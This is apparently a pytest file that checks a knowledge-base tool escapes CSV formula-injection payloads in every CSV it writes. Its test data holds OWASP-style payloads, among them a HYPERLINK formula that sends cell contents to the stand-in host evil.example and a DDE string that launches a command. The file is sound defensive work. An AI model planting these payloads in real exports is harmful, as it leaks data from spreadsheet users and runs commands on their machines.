"""Every CSV kb writes is safe to open in a spreadsheet: no cell runs as a formula.

Hostile text (OWASP's CSV-injection examples) goes into every kind of field that reaches a
CSV: titles, summaries, places, author names, opportunity and target text, registry names.
Then every CSV the project writes (the site's kb/api/*.csv, kb export, and the CLI's
--format csv of search, opportunities, targets and related) is read back: each payload is
there, inert behind an apostrophe, and no cell of any file starts like a formula.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import REGISTRY, write
from sitekit import copy_site_files

from kb.cli import main
from kb.util.formats import formula_like, inert, to_csv, to_json

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "-1+1"
AT = "@SUM(1+1)"
PAYLOADS = (LINK, CMD, SUM, AT)


def q(text: str) -> str:
    return json.dumps(text)  # a YAML double-quoted string


HOSTILE_REGISTRY = REGISTRY.replace(
    "disclaimers:",
    f"""\
  - {{id: hostile-org, name: {q(LINK)}, kind: organisation, acronyms: [{q(AT)}], country: GB,
     description: {q(CMD)}}}
  - {{id: hostile-sector, name: {q(SUM)}, kind: sector, country: null}}
disclaimers:""",
)

HOSTILE_REPORT = f"""\
---
title: {q(LINK)}
date: 2014-07-03
countries: [KR]
type: country-update
visibility: public
summary: {q(CMD)}
visit: {{places: [{q(SUM)}, {q(AT)}]}}
authors: [{{name: {q(AT)}, role: {q(LINK)}}}]
visitors: [{{name: {q(CMD)}}}]
organisations: [hostile-org]
sectors: [hostile-sector, health-data]
opportunities:
  - {{id: kr-x, title: {q(LINK)}, status: agreed, sectors: [hostile-sector], next_step: {q(CMD)},
     description: {q(AT)}}}
targets:
  - {{id: kr-t, what: {q(SUM)}, value: -3, unit: {q(AT)}, deadline: 2016, owner: msit}}
source: {{url: "https://example.org/x", publisher: {q(CMD)}, licence: {q(AT)}}}
---

Korea {LINK} health data.
"""

OTHER_REPORT = """\
---
title: "Korea: health data"
date: 2015-01-01
countries: [KR]
type: briefing
visibility: public
sectors: [health-data]
---

Korea health data.
"""


def kb(root: Path, *args: str):
    return CliRunner().invoke(main, ["--root", str(root), *args], catch_exceptions=False)


@pytest.fixture(scope="module")
def csvs(tmp_path_factory) -> dict[str, str]:
    """Every CSV the project writes for the hostile knowledge base: name -> text."""
    root = tmp_path_factory.mktemp("csv")
    write(root / "reports" / "registry" / "entities.yml", HOSTILE_REGISTRY)
    write(root / "reports" / "kr" / "2014-07-03-hostile.md", HOSTILE_REPORT)
    write(root / "reports" / "kr" / "2015-01-01-health.md", OTHER_REPORT)
    copy_site_files(root)
    check = kb(root, "check")
    assert check.exit_code == 0 and "[formula-title]" in check.output, check.output  # a warning, not an error
    for args in (("build",), ("export", "--out", str(root / "data"))):
        result = kb(root, *args)
        assert result.exit_code == 0, result.output
    found = {
        f"site:{p.name}": p.read_text(encoding="utf-8") for p in (root / "site" / "kb" / "api").glob("*.csv")
    }
    found |= {f"export:{p.name}": p.read_text(encoding="utf-8") for p in (root / "data").glob("*.csv")}
    for name, args in {
        "search": ("search", "Korea"),
        "opportunities": ("opportunities",),
        "targets": ("targets",),
        "related": ("related", "2015-01-01-health"),
    }.items():
        result = kb(root, *args, "--format", "csv")
        assert result.exit_code == 0, result.output
        found[f"cli:{name}"] = result.stdout_bytes.decode("utf-8")
    return found


def cells(text: str) -> list[str]:
    assert text.startswith("\ufeff"), "one writer: every CSV has the byte-order mark"
    return [cell for row in csv.reader(io.StringIO(text[1:], newline="")) for cell in row]


def test_every_csv_was_written_and_holds_rows(csvs):
    assert sorted(csvs) == sorted(
        [
            *(
                f"{where}:{t}.csv"
                for where in ("site", "export")
                for t in ("entities", "opportunities", "opportunity_events", "reports", "targets")
            ),
            "cli:search",
            "cli:opportunities",
            "cli:targets",
            "cli:related",
        ]
    )
    assert all(len(list(csv.reader(io.StringIO(t[1:])))) >= 2 for t in csvs.values())


def test_no_cell_of_any_csv_starts_like_a_formula(csvs):
    bad = [(name, cell) for name, text in csvs.items() for cell in cells(text) if formula_like(cell)]
    assert bad == []


@pytest.mark.parametrize(
    "field, where, payload",
    [
        ("title", "site:reports.csv", LINK),
        ("summary", "export:reports.csv", CMD),
        ("visit_places", "export:reports.csv", SUM),
        ("authors", "site:reports.csv", AT),
        ("visitors", "export:reports.csv", CMD),
        ("source_publisher", "export:reports.csv", CMD),
        ("licence", "site:reports.csv", AT),
        ("name", "export:entities.csv", LINK),
        ("description", "site:entities.csv", CMD),
        ("acronyms", "export:entities.csv", AT),
        ("name", "site:entities.csv", SUM),
        ("title", "export:opportunities.csv", LINK),
        ("next_step", "site:opportunities.csv", CMD),
        ("description", "export:opportunities.csv", AT),
        ("what", "site:targets.csv", SUM),
        ("unit", "export:targets.csv", AT),
        ("title", "cli:search", LINK),
        ("title", "cli:opportunities", LINK),
        ("what", "cli:targets", SUM),
        ("title", "cli:related", LINK),
    ],
)
def test_each_hostile_field_comes_out_behind_an_apostrophe(csvs, field, where, payload):
    rows = list(csv.DictReader(io.StringIO(csvs[where][1:], newline="")))
    values = [row[field] for row in rows if field in row]
    assert values, f"{field} is a column of {where}"
    assert any(v == "'" + payload or f"'{payload}" in v.split("; ") for v in values), values


def test_plain_negative_numbers_stay_numbers(csvs):
    rows = list(csv.DictReader(io.StringIO(csvs["export:targets.csv"][1:], newline="")))
    assert [row["value"] for row in rows] == ["-3"]
    assert b'"kr-t","\'-1+1",-3\r\n' in to_csv(
        [{"id": "kr-t", "what": SUM, "value": -3}], ["id", "what", "value"]
    )


@pytest.mark.parametrize(
    "text, expected",
    [
        (LINK, "'" + LINK),
        (CMD, "'" + CMD),
        (SUM, "'" + SUM),
        (AT, "'" + AT),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-3", "-3"),
        ("-2.5", "-2.5"),
        ("-", "'-"),
        ("Korea", "Korea"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_the_inert_rule(text, expected):
    assert inert(text) == expected


def test_list_items_are_each_inert_and_every_text_cell_quoted():
    data = to_csv([{"names": ["Seoul", "=1+1"], "n": 2}], ["names", "n"]).decode("utf-8-sig")
    assert data == '"names","n"\r\n"Seoul; \'=1+1",2\r\n'


def test_the_json_writer_refuses_numbers_json_cannot_hold():
    from kb.errors import BuildError

    with pytest.raises(BuildError, match="infinite or not a number"):
        to_json({"value": float("inf")})


def test_new_refuses_a_title_that_looks_like_a_formula(run, kb_tree):
    result = run("new", "--title", LINK, "--date", "2024-01-02", "--country", "KR")
    assert result.exit_code == 2
    assert result.stderr == (
        "error: the title starts with '=', like a spreadsheet formula: probably pasted "
        "by accident (retype the title, starting with a word)\n"
    )
    assert sorted(p.name for p in (kb_tree / "reports" / "kr").iterdir()) == ["2014-07-03-korea-open-data.md"]
